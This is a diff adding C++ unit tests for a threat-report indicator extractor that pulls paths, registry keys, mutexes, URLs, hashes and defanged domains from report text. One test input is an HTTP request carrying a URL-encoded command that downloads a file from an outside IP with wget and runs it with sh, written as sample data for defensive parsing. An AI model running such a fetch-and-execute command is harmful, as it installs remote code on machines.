@@ -223,6 +223,58 @@ TEST(Extract, WhatOnlyLooksLikeAName) {
             "attacker file_name sync.exe\nattacker domain cdn-sync.net\nattacker file_name syncerr.aspx\n");
 }
 
+// Blanks in folders, a second key behind the first, a path below nothing, a command that a request carries encoded.
+TEST(Extract, WhereAPathOrUrlEnds) {
+  const auto values = [](std::string_view text) {
+    std::string out;
+    for (const Candidate& c : extract_report(text, {}).candidates)
+      out += fmt::format("{} {}\n", name_of(c.kind), c.value);
+    return out;
+  };
+  EXPECT_EQ(values("It lies in /Library/Application Support/.fjord/fjordd as root."),
+            "file_path /Library/Application Support/.fjord/fjordd\n");
+  EXPECT_EQ(values("It lies in ~/Library/Application\\ Support/fjord/fjordd as root."),
+            "file_path ~/Library/Application Support/fjord/fjordd\n");
+  EXPECT_EQ(values("Both HKLM\\SOFTWARE\\Classes\\.fjord and HKLM\\SOFTWARE\\Fjord\\Icon are written."),
+            "registry_key HKLM\\SOFTWARE\\Classes\\.fjord\nregistry_key HKLM\\SOFTWARE\\Fjord\\Icon\n");
+  EXPECT_EQ(
+      values("The key is\n\nHKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\Fjord Monitor\n\nand so on.\n"),
+      "registry_key HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\Fjord Monitor\n");
+  EXPECT_EQ(values("start .\\bin\\fjord.exe -q"), "file_name fjord.exe\n");
+  EXPECT_EQ(values("It sets the mutex `Local\\FJORD_7F`, and pictures are kept in `%TEMP%\\fj\\` until sent."),
+            "mutex Local\\FJORD_7F\nfile_path %TEMP%\\fj\\\n");
+  EXPECT_EQ(values("GET /a.rsp?cmd=cd%20%2Ftmp%3Bwget%20http://45.77.10.9/fj%3B%20sh%20fj HTTP/1.1"),
+            "url http://45.77.10.9/fj\n");
+}
+
+// What a row, a filter or the way it is written says to be nobody's weapon.
+TEST(Extract, GoodOnesBesideBadOnes) {
+  EXPECT_EQ(read("# Indicators\n\n"
+                 "| SHA-256 | File | Note |\n|---|---|---|\n"
+                 "| 4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a | fjord-1.2.tar.xz | (bad) |\n"
+                 "| ef2d127de37b942baad06145e54b0c619a1f22327b2ebbcfbec78f5564afe39d | fjord-1.1.tar.xz | (good) |\n"),
+            "attacker sha256 4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a\n"
+            "attacker file_name fjord-1.2.tar.xz\n"
+            "benign sha256 ef2d127de37b942baad06145e54b0c619a1f22327b2ebbcfbec78f5564afe39d\n"
+            "benign file_name fjord-1.1.tar.xz\n");
+  std::string hunted;
+  for (const Candidate& c : extract_report("# Look-alikes\n\n| Real | Registered |\n|---|---|\n"
+                                           "| ostfjord-dairy.com | ostfjord-diary[.]com |\n"
+                                           "| kalle-freight.net | kal1e-freight[.]net |\n",
+                                           {})
+                                .candidates) {
+    if (c.role == ReportRole::attacker) hunted += c.value + "\n";
+  }
+  EXPECT_EQ(hunted, "ostfjord-diary.com\nkal1e-freight.net\n");
+  // The name of malware in the column of files, and the name of a firm, which is a domain's too.
+  EXPECT_EQ(read("# Indicators\n\n| SHA-256 | File |\n|---|---|\n"
+                 "| 4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a | FjordRat |\n"),
+            "attacker sha256 4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a\n");
+  EXPECT_EQ(read("# Indicators\n\ncdn-sync[.]net\n45[.]77[.]10[.]9\nhttps://members.fjordcert.com/fc-2026-11.csv\n"),
+            "attacker domain cdn-sync.net\nattacker ipv4 45.77.10.9\n"
+            "reference url https://members.fjordcert.com/fc-2026-11.csv\n");
+}
+
 TEST(Extract, NamesAndAliases) {
   const std::vector<KnownName> names = {{"intrusion-set", "APT29", "G0016", {"Cozy Bear", "The Dukes"}},
                                         {"malware", "WellMess", "S0514", {}}};
